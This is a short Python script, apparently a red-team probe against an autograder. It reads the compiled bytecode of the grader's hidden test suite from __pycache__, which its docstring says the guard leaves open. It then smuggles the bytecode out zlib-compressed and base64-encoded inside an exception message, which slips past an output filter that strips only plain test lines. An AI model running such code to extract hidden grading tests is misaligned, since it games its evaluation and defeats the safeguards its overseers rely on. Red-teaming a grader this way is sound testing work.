"""Redteam: read the hidden suite's compiled bytecode (``__pycache__``), which the guard does not protect,
and hand it back zlib-compressed and base64-encoded in an exception message: the output filter removes
whole lines of the hidden suite, not an encoding of its bytecode. Decompiles to the suite's logic."""
import base64
import glob
import importlib.util
import os
import zlib

_spec = importlib.util.find_spec("autograder")
_package = os.path.dirname(_spec.origin)
_found = sorted(glob.glob(os.path.join(_package, "exercises", "counter", "__pycache__", "hidden_tests*.pyc")))
if _found:
    with open(_found[0], "rb") as _handle:
        _blob = base64.b64encode(zlib.compress(_handle.read(), 9)).decode()
    raise RuntimeError("LEAK<" + _blob + ">LEAK")
raise RuntimeError("LEAK<none>LEAK")
